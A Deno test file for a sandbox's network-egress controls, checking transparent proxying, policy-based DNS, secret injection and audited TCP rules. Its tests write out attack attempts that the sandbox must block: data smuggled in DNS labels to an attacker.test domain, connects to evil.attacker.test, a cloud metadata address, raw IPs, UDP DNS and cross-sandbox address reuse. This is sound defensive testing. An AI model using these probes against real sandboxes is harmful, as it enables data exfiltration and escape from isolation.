/**
 * Transparent egress and TCP rules in real sandboxes: a program that
 * ignores the proxy variables (raw `node:tls`, `node:net`, a DNS query of
 * its own) still reaches an allowed name through the injector, decided on
 * the name it looked up and injected; names are answered inside the
 * sandbox from the policy alone; a `network.tcp` rule opens a plain,
 * audited tunnel. And the attacks: an address no lookup returned, another
 * sandbox's addresses, raw IPs, UDP out, ports without a rule, data carried
 * in a looked-up name. Everything stays on loopback (`connectTo`).
 */

import assert from "node:assert/strict";
import { type EgressEvent, Sandbox } from "../mod.ts";
import {
  type Attempt,
  egressEvents,
  lastJson,
  randomSecret,
  startUpstreams,
  tryEach,
  upstreamPolicy,
} from "./kits/upstreams.ts";
import { startTcpEcho } from "./kits/bridge.ts";

const LIMITS = { timeoutMs: 60_000 };
const API = "api.example.test";

/**
 * Program prelude: `talk({ host, port, tls?, servername? }, text)` opens a
 * connection without any proxy (node:net or node:tls, by name or address),
 * writes `text` and resolves to everything read until it closes;
 * `dial(hostname, port)` does the same with Deno.connect and resolves to
 * what the first read gave ("closed" when nothing); `dnsQuery(name)` asks
 * the sandbox's resolver (from /etc/resolv.conf) with a hand-made query.
 */
const PRELUDE = `
import net from "node:net";
import tls from "node:tls";
import dns from "node:dns/promises";
import dgram from "node:dgram";
const talk = (o, text) => new Promise((resolve, reject) => {
  const s = o.tls
    ? tls.connect({ host: o.host, port: o.port, servername: o.servername ?? o.host })
    : net.connect({ host: o.host, port: o.port });
  let data = "";
  s.on(o.tls ? "secureConnect" : "connect", () => s.write(text));
  s.on("data", (d) => { data += d; });
  s.on("close", () => resolve(data));
  s.on("error", (e) => reject(e));
});
const dial = async (hostname, port) => {
  const c = await Deno.connect({ hostname, port });
  try {
    await c.write(new TextEncoder().encode("GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"));
    const buffer = new Uint8Array(256);
    const n = await c.read(buffer).catch((e) => { throw e; });
    return n === null ? "closed" : new TextDecoder().decode(buffer.subarray(0, n));
  } finally { try { c.close(); } catch {} }
};
const dnsQuery = (name, server = "127.0.0.53") => new Promise((resolve, reject) => {
  const labels = name.split(".").map((l) => new TextEncoder().encode(l));
  const q = new Uint8Array(12 + labels.reduce((n, l) => n + l.length + 1, 0) + 5);
  q.set([0x12, 0x34, 1, 0, 0, 1], 0);
  let at = 12;
  for (const l of labels) { q[at++] = l.length; q.set(l, at); at += l.length; }
  q[at++] = 0; q[at + 1] = 1; q[at + 3] = 1;
  const s = dgram.createSocket("udp4");
  s.on("error", (e) => { s.close(); reject(e); });
  s.on("message", (m) => {
    s.close();
    const a = m.length >= 4 ? [...m.subarray(-4)].join(".") : "";
    resolve({ rcode: m[3] & 15, answers: m[7], address: m[7] ? a : null });
  });
  s.send(q, 53, server, (e) => { if (e) { s.close(); reject(e); } });
});
const get = (host, extra = "") =>
  "GET /t HTTP/1.1\\r\\nHost: " + host + "\\r\\nConnection: close\\r\\n" + extra + "\\r\\n";
`;

/** Runs `attempts` (see `tryEach`) after the prelude. */
async function attempt(
  sandbox: Sandbox,
  attempts: Record<string, string>,
): Promise<
  {
    out: Record<string, Attempt>;
    egress: EgressEvent[];
    result: Awaited<ReturnType<Sandbox["run"]>>;
  }
> {
  const result = await sandbox.run({ code: PRELUDE + tryEach(attempts) });
  assert.equal(result.exitCode, 0, result.stderr);
  return {
    out: lastJson<Record<string, Attempt>>(result),
    egress: egressEvents(result.audit),
    result,
  };
}

function value(outcome: Attempt | undefined, label: string): string {
  assert.ok(outcome?.ok, `${label}: ${JSON.stringify(outcome)}`);
  return String(outcome.value);
}

function error(outcome: Attempt | undefined, label: string): string {
  assert.ok(outcome && !outcome.ok, `${label}: ${JSON.stringify(outcome)}`);
  return outcome.error;
}

Deno.test("transparent egress: node:tls without the proxy reaches an allowed name, decided on the looked-up name and injected; a Host naming another host is refused", async () => {
  await using ups = await startUpstreams([API, "other.example.test"]);
  const secret = randomSecret();
  await using sandbox = await Sandbox.create({
    policy: {
      limits: LIMITS,
      network: {
        allow: {
          [API]: [{
            transform: [{
              headers: { authorization: "Bearer ${secret:T}" },
            }],
          }],
          "other.example.test": [],
        },
      },
      upstream: upstreamPolicy(ups),
    },
    secrets: { T: secret },
  });
  const { out, egress, result } = await attempt(sandbox, {
    lookup: `dns.lookup(${JSON.stringify(API)}).then((r) => r.address)`,
    https: `talk({ host: ${JSON.stringify(API)}, port: 443, tls: true }, get(${
      JSON.stringify(API)
    }))`,
    // Attack: a tunnel opened to one allowed name, a request for another
    // inside it (invariant 3: the name looked up decides).
    otherHost: `talk({ host: ${
      JSON.stringify(API)
    }, port: 443, tls: true }, get("other.example.test"))`,
  });
  assert.match(
    value(out.lookup, "lookup"),
    /^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./,
  );
  assert.match(value(out.https, "https"), /^HTTP\/1\.1 200/);
  assert.ok(
    !result.stdout.includes(secret),
    "the secret never reaches the sandbox",
  );
  assert.equal(ups.get(API).header(0, "authorization"), `Bearer ${secret}`);
  assert.match(value(out.otherHost, "otherHost"), /^HTTP\/1\.1 421/);
  assert.equal(ups.get("other.example.test").seen.length, 0);
  const connects = egress.filter((e) => e.kind === "connect" && e.host === API);
  assert.ok(
    connects.length >= 2 && connects.every((e) => e.via === "transparent"),
  );
  // An allowed name's lookup is not an audit record (its connect is).
  assert.ok(!egress.some((e) => e.kind === "dns"));
});

Deno.test("transparent egress: a name the policy refuses is looked up inside (audited, nothing leaves) and the connect is refused naming airlock's policy", async () => {
  await using ups = await startUpstreams([API]);
  await using sandbox = await Sandbox.create({
    policy: {
      limits: LIMITS,
      network: { allow: [API] },
      upstream: upstreamPolicy(ups),
    },
  });
  // Attack: data carried out in the labels of a looked-up name.
  const exfil = `${"a".repeat(63)}.${"b".repeat(63)}.exfil.attacker.test`;
  const { out, egress, result } = await attempt(sandbox, {
    lookup: `dns.lookup(${JSON.stringify(exfil)}).then((r) => r.address)`,
    denoConnect:
      `Deno.connect({ hostname: "evil.attacker.test", port: 443 }).then(() => "CONNECTED")`,
    nodeConnect: `talk({ host: "evil.attacker.test", port: 443 }, "x")`,
  });
  value(out.lookup, "lookup");
  const record = egress.find((e) => e.kind === "dns" && e.host === exfil);
  assert.equal(record?.decision, "deny");
  assert.match(
    record?.reason ?? "",
    /airlock's network policy allows no connection/,
  );
  // Deno's wall refuses the connect, with airlock's reason; Node's client
  // surfaces the same refusal as EPERM. Both are broker records.
  assert.match(
    error(out.denoConnect, "denoConnect"),
    /NotCapable.*evil\.attacker\.test:443.*airlock's network policy/,
  );
  assert.match(error(out.nodeConnect, "nodeConnect"), /EPERM/);
  const refusals = result.audit.filter((e) =>
    e.source === "broker" && e.decision === "deny" &&
    e.value === "evil.attacker.test:443"
  );
  assert.ok(refusals.length >= 1, JSON.stringify(result.audit));
  assert.ok(!egress.some((e) => e.decision === "allow" && e.kind !== "dns"));
});

Deno.test("transparent egress attacks (Deno's net wall lowered by allow-all): an address no lookup returned, another sandbox's address, raw IPs, UDP out, a port without a rule", async () => {
  await using ups = await startUpstreams([API]);
  const policy = {
    limits: LIMITS,
    network: "allow-all" as const,
    upstream: upstreamPolicy(ups),
  };
  await using first = await Sandbox.create({ policy });
  await using second = await Sandbox.create({ policy });
  const { out: firstOut } = await attempt(first, {
    address: `dns.lookup(${JSON.stringify(API)}).then((r) => r.address)`,
  });
  const theirs = value(firstOut.address, "first lookup");
  const seenBefore = ups.get(API).seen.length;
  const { out, egress } = await attempt(second, {
    // Attack: the first sandbox's address for a name this one never
    // looked up (each run has its own table, each sandbox its loopback).
    otherSandbox: `dial(${JSON.stringify(theirs)}, 443)`,
    // Attack: a scan of the synthetic range.
    guessed: `dial("127.64.0.77", 443)`,
    guessedHttp: `dial("127.127.255.254", 80)`,
    // Attack: raw addresses outside: no route but loopback.
    rawIp: `dial("1.1.1.1", 443)`,
    metadata: `dial("169.254.169.254", 80)`,
    // Attack: UDP out, a DNS query to a real resolver.
    udp: `dnsQuery("example.com", "8.8.8.8")`,
    // A port no rule names (allow-all is about HTTP(S) only): nothing
    // listens there.
    noRule: `dns.lookup(${
      JSON.stringify(API)
    }).then(({ address }) => dial(address, 5432))`,
    // Control: the sandbox's own resolver answers, from the policy.
    resolver: `dnsQuery(${JSON.stringify(API)}).then((r) => JSON.stringify(r))`,
  });
  for (const label of ["otherSandbox", "guessed", "guessedHttp"]) {
    assert.equal(value(out[label], label), "closed", label);
  }
  const unknown = egress.filter((e) => e.rule === "unknown-address");
  assert.deepEqual(
    unknown.map((e) => e.host).sort(),
    [theirs, "127.64.0.77", "127.127.255.254"].sort(),
  );
  assert.ok(unknown.every((e) => e.decision === "deny"));
  for (const label of ["rawIp", "metadata"]) {
    assert.match(error(out[label], label), /unreachable|os error 101/i, label);
  }
  // Deno's node:dgram reports the kernel's ENETUNREACH as UNKNOWN.
  assert.match(
    error(out.udp, "udp"),
    /send (UNKNOWN|ENETUNREACH)|unreachable/i,
  );

  assert.match(
    error(out.noRule, "noRule"),
    /refused|ECONNREFUSED|os error 111/i,
  );
  assert.equal(
    ups.get(API).seen.length,
    seenBefore,
    "the upstream saw nothing",
  );
  assert.ok(!egress.some((e) => e.kind === "tcp" && e.decision === "allow"));
  const answer = JSON.parse(value(out.resolver, "resolver"));
  assert.equal(answer.rcode, 0);
  assert.match(answer.address, /^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./);
});

Deno.test("TCP rule: node:net to the rule's host:port is tunnelled untouched and audited with bytes each way; another port of the same host is refused", async () => {
  await using echo = startTcpEcho("+OK ready\r\n");
  await using sandbox = await Sandbox.create({
    policy: {
      limits: LIMITS,
      network: { tcp: ["db.example.test:6379"] },
      upstream: { connectTo: [`db.example.test:6379:127.0.0.1:${echo.port}`] },
    },
  });
  const { out, egress, result } = await attempt(sandbox, {
    ping: `new Promise((resolve, reject) => {
      const s = net.connect({ host: "db.example.test", port: 6379 });
      let data = "";
      s.on("data", (d) => {
        data += d;
        if (data === "+OK ready\\r\\n") s.write("PING\\r\\n");
        if (data.endsWith("PING\\r\\n")) s.end();
      });
      s.on("close", () => resolve(data));
      s.on("error", reject);
    })`,
    // Attack: the same host on a port no rule names.
    otherPort: `talk({ host: "db.example.test", port: 6380 }, "x")`,
  });
  assert.equal(value(out.ping, "ping"), "+OK ready\r\nPING\r\n");
  assert.match(error(out.otherPort, "otherPort"), /EPERM|NotCapable/);
  const tunnels = egress.filter((e) => e.kind === "tcp");
  assert.equal(tunnels.length, 1, JSON.stringify(tunnels));
  assert.deepEqual(
    [
      tunnels[0]!.host,
      tunnels[0]!.port,
      tunnels[0]!.decision,
      tunnels[0]!.via,
      tunnels[0]!.bytesOut,
      tunnels[0]!.bytesIn,
    ],
    ["db.example.test", 6379, "allow", "transparent", 6, 17],
  );
  assert.ok(tunnels[0]!.durationMs >= 0);
  assert.ok(
    result.audit.some((e) =>
      e.source === "broker" && e.decision === "deny" &&
      e.value === "db.example.test:6380"
    ),
  );
  assert.equal(echo.connections, 1);
});
